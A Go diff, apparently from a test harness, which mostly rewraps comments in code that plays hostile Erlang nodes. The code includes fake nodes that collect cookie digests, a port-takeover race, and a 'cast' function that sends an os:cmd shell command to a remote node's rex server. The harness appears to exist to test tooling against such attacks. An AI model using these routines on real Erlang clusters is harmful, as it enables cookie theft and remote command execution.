@@ -17,8 +17,9 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// This file plays processes that look like Erlang nodes and are none. Each looks so by a holder: a process named beam.smp with a node's
-// arguments that has the listening socket open. Its parent accepts the connections, so that the holder may be any program: a setuid one.
+// This file plays processes that look like Erlang nodes and are none. Each looks so by a holder: a
+// process named beam.smp with a node's arguments that has the listening socket open. Its parent
+// accepts the connections, so that the holder may be any program: a setuid one.
 
 func init() {
 	attacks["fakenode"] = playFakeNode
@@ -46,7 +47,8 @@ func vmArgs(name, home string) []string {
 		"-noshell", "-noinput", "-sname", name}
 }
 
-// startHolder has a program hold the listener, as a node named so with that home. The program is named beam.smp.
+// startHolder has a program hold the listener, as a node named so with that home. The program is
+// named beam.smp.
 func startHolder(program string, args []string, l *net.TCPListener) (io.Closer, error) {
 	f, err := l.File()
 	if err != nil {
@@ -65,7 +67,8 @@ func startHolder(program string, args []string, l *net.TCPListener) (io.Closer, 
 	return stdin, nil
 }
 
-// listenAsNode listens with the backlog of a node's socket, by which a node is told from other servers.
+// listenAsNode listens with the backlog of a node's socket, by which a node is told from other
+// servers.
 func listenAsNode(addr string) (*net.TCPListener, error) {
 	l, err := net.Listen("tcp", addr)
 	if err != nil {
@@ -89,7 +92,8 @@ type fakeNode struct {
 	halfClose     bool
 }
 
-// playFakeNode listens, asks whoever comes for the digest of a cookie, and writes it down or logs in with it.
+// playFakeNode listens, asks whoever comes for the digest of a cookie, and writes it down or logs
+// in with it.
 func playFakeNode(args []string) error {
 	var (
 		f                                    = flag.NewFlagSet("fakenode", flag.ContinueOnError)
@@ -257,7 +261,8 @@ func meetNode(addr, name string) (net.Conn, uint32, error) {
 	return c, binary.BigEndian.Uint32(challenge[9:]), nil
 }
 
-// cast has the node on the other end run a command of the shell: {'$gen_cast', {cast, os, cmd, [Command], user}} to rex.
+// cast has the node on the other end run a command of the shell: {'$gen_cast', {cast, os, cmd,
+// [Command], user}} to rex.
 func cast(c net.Conn, name, command string) {
 	atom := func(b []byte, s string) []byte { return append(append(b, 119, byte(len(s))), s...) }
 	tuple := func(b []byte, n int) []byte { return append(b, 104, byte(n)) }
@@ -276,8 +281,8 @@ func cast(c net.Conn, name, command string) {
 	c.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...))
 }
 
-// playVanishingNode is the victim's: it answers one question for its name, and by then it has no longer listened for a moment, in which
-// somebody else takes its port.
+// playVanishingNode is the victim's: it answers one question for its name, and by then it has no
+// longer listened for a moment, in which somebody else takes its port.
 func playVanishingNode(args []string) error {
 	l, err := listenAsNode(args[1])
 	if err != nil {
@@ -306,8 +311,9 @@ func playVanishingNode(args []string) error {
 	select {} // a node that lives, and the socket is closed
 }
 
-// playSilentNodes are as many processes as args[0] says; each listens and says nothing. A line for each port that somebody connects to
-// goes into the file args[2]. args[1] is the program that plays the node.
+// playSilentNodes are as many processes as args[0] says; each listens and says nothing. A line for
+// each port that somebody connects to goes into the file args[2]. args[1] is the program that plays
+// the node.
 func playSilentNodes(args []string) error {
 	var n int
 	if _, err := fmt.Sscan(args[0], &n); err != nil {
@@ -323,13 +329,12 @@ func playSilentNodes(args []string) error {
 			return err
 		}
 		wg.Go(func() {
-			var kept []net.Conn
 			for {
 				c, err := l.Accept()
 				if err != nil {
 					return
 				}
-				kept = append(kept, c)
+				go io.Copy(io.Discard, c)
 				writeDown(args[2], fmt.Sprintln(l.Addr().(*net.TCPAddr).Port))
 			}
 		})
@@ -341,8 +346,9 @@ func playSilentNodes(args []string) error {
 	return nil
 }
 
-// playHeldNames has names in epmd for a port that takes no connection and refuses none: a SYN for it gets no answer. It is
-// "heldnames PREFIX COUNT HOLD TIMES READY": for that long, with a second between, that many times; the file is made when they are there.
+// playHeldNames has names in epmd for a port that takes no connection and refuses none: a SYN for
+// it gets no answer. It is "heldnames PREFIX COUNT HOLD TIMES READY": for that long, with a second
+// between, that many times; the file is made when they are there.
 func playHeldNames(args []string) error {
 	var count, times int
 	if _, err := fmt.Sscan(args[1], &count); err != nil {
